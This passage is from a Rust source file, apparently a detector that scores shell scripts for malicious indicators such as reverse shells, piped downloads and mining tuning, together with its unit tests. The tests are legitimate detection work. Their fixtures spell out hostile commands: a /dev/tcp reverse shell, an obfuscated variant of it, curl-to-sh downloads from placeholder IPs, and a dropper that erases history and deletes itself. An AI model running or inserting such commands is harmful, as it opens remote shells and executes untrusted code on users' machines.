        words: "CPU tuning for mining (huge pages, MSR)",
        weight: 0.3,
        holds: |v| HUGEPAGES.is_match(v),
    },
    Indicator {
        words: "a long encoded blob",
        weight: 0.3,
        holds: |v| LONG_BLOB.is_match(v),
    },
    Indicator {
        words: "/dev/tcp used",
        weight: 0.3,
        holds: |v| DEV_TCP.is_match(v),
    },
];

/// Scores shell source.
pub fn score(source: &str) -> ShellVerdict {
    let v = views(source);
    let mut keep = 1.0f32;
    let mut reasons: Vec<(f32, &'static str)> = Vec::new();
    for ind in INDICATORS {
        if (ind.holds)(&v) {
            keep *= 1.0 - ind.weight;
            reasons.push((ind.weight, ind.words));
        }
    }
    reasons.sort_by(|a, b| b.0.total_cmp(&a.0));
    ShellVerdict {
        score: 1.0 - keep,
        reasons: reasons.into_iter().map(|(_, w)| w).collect(),
    }
}

/// True when `source` reads as shell: a `#!` line naming a Bourne-family shell, or no `#!` line
/// at all (a file run by a shell by name).
pub fn is_shell_source(source: &str) -> bool {
    let Some(first) = source.lines().next() else {
        return false;
    };
    let Some(interp) = first.strip_prefix("#!") else {
        return true;
    };
    let mut words = interp.split_whitespace();
    let Some(prog) = words.next() else {
        return false;
    };
    let prog = shrike_core::event::basename(prog);
    let prog = if prog == "env" {
        words
            .find(|w| !w.starts_with('-') && !w.contains('='))
            .map(shrike_core::event::basename)
            .unwrap_or("")
    } else {
        prog
    };
    matches!(
        prog,
        "sh" | "bash" | "dash" | "ash" | "ksh" | "mksh" | "busybox"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn comments_count_for_nothing_and_obfuscation_does_not_hide() {
        let commented = "#!/bin/sh\n# never do: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\necho hi\n";
        assert!(score(commented).score < 0.01, "{:?}", score(commented));
        let hidden = "b'a's\\h -i >& /d\"e\"v/tcp/192.0.2.1/4444 0>&1\n";
        let v = score(hidden);
        assert!(v.malicious(THRESHOLD), "{v:?}");
        assert_eq!(
            v.reasons[0],
            "an interactive shell over /dev/tcp (reverse shell)"
        );
        let ifs = "curl${IFS}-s${IFS}http://192.0.2.7/x|sh\n";
        assert!(score(ifs)
            .reasons
            .contains(&"a download piped straight into a shell"));
    }

    #[test]
    fn a_port_check_over_dev_tcp_is_not_a_reverse_shell() {
        let check = "#!/bin/bash\nuntil (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done\nexec \"$@\"\n";
        let v = score(check);
        assert!(!v.malicious(THRESHOLD), "{v:?}");
    }

    #[test]
    fn weak_indicators_only_add_up() {
        let installer = "#!/bin/sh\ncurl -fsSL https://deb.nodesource.com/setup_20.x | bash -\napt-get install -y nodejs\n";
        let v = score(installer);
        assert!(!v.malicious(THRESHOLD), "{v:?}");
        let dropper = "#!/bin/sh\ncurl -s http://198.51.100.4/x | sh\nhistory -c\nrm -f $0\n";
        let v = score(dropper);
        assert!(v.malicious(THRESHOLD), "{v:?}");
        assert!(v.score > 0.0 && v.score <= 1.0);
    }

    #[test]
    fn shell_sources_are_told_from_others() {
        assert!(is_shell_source("#!/bin/sh\necho"));
        assert!(is_shell_source("#! /usr/bin/env bash\n"));
        assert!(is_shell_source("#!/usr/bin/env -S bash -e\n"));
        assert!(is_shell_source("echo no shebang\n"));
        assert!(!is_shell_source("#!/usr/bin/python3\n"));
        assert!(!is_shell_source("#!/usr/bin/env zsh\n"));
        assert!(!is_shell_source(""));
    }

    #[test]
    fn scoring_is_bounded_on_huge_and_odd_input() {
        let huge = "a".repeat(SCORED_BYTES * 3) + "é";
        assert!(score(&huge).score <= 1.0);
        let multibyte = "é".repeat(SCORED_BYTES);
        assert!(score(&multibyte).score < 0.01);
    }
}
